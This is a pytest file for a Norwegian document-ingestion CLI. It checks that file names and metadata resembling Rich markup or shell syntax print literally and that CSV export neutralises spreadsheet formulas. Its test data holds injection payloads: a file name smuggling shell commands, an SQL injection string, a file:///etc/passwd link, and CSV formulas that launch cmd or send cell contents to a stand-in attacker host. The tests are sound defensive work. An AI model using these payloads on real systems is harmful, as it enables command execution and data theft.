"""Names and text that look like Rich markup or shell never break the command line, and a CSV
export never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from planatlas.cli import main
from planatlas.store import Atlas

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
READABLE = "Kystpartiet vil styrke fastlegeordningen i hele landet.\n"
# A file name cannot hold "/", so "[/b]" in a path is a folder "x[" holding "b]...".
NAMES = [
    "plan[/b].txt",
    "[red]rød[/red] plan.txt",
    "[bold]fet[/bold].md",
    "$(touch pwned); `id` & plan.txt",
    "'; DROP TABLE documents; --.txt",
    "plan [link=file:///etc/passwd]lenke[/link].txt",
]


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@pytest.fixture
def db(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'atlas.db'}"


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _docx_with_member(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    source = zipfile.ZipFile(EXAMPLES / "kystpartiet-helseprogram-2025-2029.docx")
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr(name, data)
    return out.getvalue()


def test_ingest_of_files_named_like_markup_reports_every_file(tmp_path: Path, db: str) -> None:
    folder = tmp_path / "inn"
    readable = [_write(folder, name, READABLE.encode()) for name in NAMES]
    broken = [
        _write(folder, "ødelagt[/b].txt", b"\x00" * 64),
        _write(folder, "[/i]medlem.docx", _docx_with_member("word/[/b]del.xml", b"<!DOCTYPE a>")),
    ]
    result = run("--db", db, "ingest", str(folder))
    assert result.exit_code == 1, result.output  # two files failed; no traceback
    for path in readable + broken:
        assert path.name in result.output or str(path)[:20] in result.output
    assert "word/[/b]del.xml" in result.output.replace("\n", "")
    assert f"{len(readable)} filer lest, 2 med feil" in result.output
    assert len(Atlas(db).documents()) == len(readable)


def test_file_with_brackets_given_by_name_is_read_not_taken_for_a_pattern(
    tmp_path: Path, db: str
) -> None:
    path = _write(tmp_path, "[red]x[bold].txt", READABLE.encode())
    result = run("--db", db, "ingest", str(path))
    assert result.exit_code == 0, result.output
    assert "1 filer lest, 0 med feil" in result.output
    assert [d.source for d in Atlas(db).documents()] == [str(path)]


def test_error_list_and_outline_print_markup_as_it_is(tmp_path: Path, db: str) -> None:
    title = "[bold]Plan[/bold] for [/b] helse [link=x]"
    path = _write(tmp_path, "plan[/b].txt", f"{title}\n\n{READABLE}".encode())
    _write(tmp_path, "feil[/b].txt", b"\x00\x01")
    run("--db", db, "ingest", str(tmp_path))
    errors = run("--db", db, "errors")
    assert errors.exit_code == 0
    assert "feil[/b].txt" in errors.output
    shown = run("--db", db, "show", str(path))
    assert shown.exit_code == 0, shown.output
    assert title in shown.output
    overview = run("--db", db, "overview")
    assert overview.exit_code == 0, overview.output


FORMULAS = [
    '=HYPERLINK("http://angriper.example/?x="&A1;"Klikk her")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_csv_export_escapes_every_formula(tmp_path: Path, db: str) -> None:
    lines = "\n\n".join(f"{formula} vil vi ha." for formula in FORMULAS)
    text = f"=cmd|' /C calc'!A0 tittel\n\n{lines}\n\n\tTabulator vil vi ha.\n"
    path = _write(tmp_path, "=formel.txt", text.encode())
    assert run("--db", db, "ingest", str(path)).exit_code == 0
    result = run("--db", db, "export", "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert any("HYPERLINK" in cell for cell in cells)  # the statements are there
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_overview_shows_metadata_that_looks_like_markup(tmp_path: Path, db: str) -> None:
    path = _write(tmp_path, "plan.txt", READABLE.encode())
    given = ["--period", "[/b]", "--genre", "[red]rød"]
    assert run("--db", db, "ingest", str(path), *given).exit_code == 0
    result = run("--db", db, "overview")
    assert result.exit_code == 0, result.output
    assert "[/b]" in result.output
    assert "[red]rød" in result.output


def test_user_list_shows_names_that_look_like_markup(db: str) -> None:
    made = CliRunner().invoke(
        main,
        [
            "--db",
            db,
            "user",
            "add",
            "ada",
            "--name",
            "[bold]Ada[/i]",
            "--role",
            "admin",
            "--organisation",
            "[/b]Helselaget",
        ],  # fmt: skip
        input="et langt passord 123\n" * 2,
        catch_exceptions=False,
    )
    assert made.exit_code == 0, made.output
    result = run("--db", db, "user", "list")
    assert result.exit_code == 0, result.output
    assert "[/b]Helselaget" in result.output
    assert "[bold]Ada[/i]" in result.output
